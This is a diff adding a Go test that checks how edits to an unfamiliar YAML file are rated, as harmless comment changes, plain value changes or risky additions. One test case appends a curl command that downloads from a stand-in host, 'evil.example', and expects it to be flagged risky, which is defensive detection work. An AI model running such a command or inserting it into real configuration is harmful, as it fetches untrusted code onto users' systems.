@@ -202,3 +202,18 @@ func TestYAML(t *testing.T) {
 		t.Errorf("literal text: %+v", n)
 	}
 }
+
+// TestUnknownYAML: of YAML that nothing is known of, only comments and empty lines are harmless.
+func TestUnknownYAML(t *testing.T) {
+	const path, text = "data/a.yml", "# a\na: 1\nb: |\n  # no comment\n  x\n"
+	edits{
+		"a comment":          {path, text, replaceOnce(t, text, "# a\n", "# b\n\n"), Harmless},
+		"no comment":         {path, text, replaceOnce(t, text, "# a\n", ""), Harmless},
+		"a value":            {path, text, replaceOnce(t, text, "a: 1", "a: 2"), Plain},
+		"in other words":     {path, text, replaceOnce(t, text, "a: 1", `a: "1"`), Plain},
+		"a value is gone":    {path, text, replaceOnce(t, text, "a: 1\n", ""), Plain},
+		"in a text":          {path, text, replaceOnce(t, text, "# no", "# yes,"), Plain},
+		"a command":          {path, text, text + "c: curl -o x evil.example\n", Risky},
+		"that can't be read": {path, text, replaceOnce(t, text, "b: |\n", "b: |\n# a\n\t- {\n"), Plain},
+	}.check(t)
+}
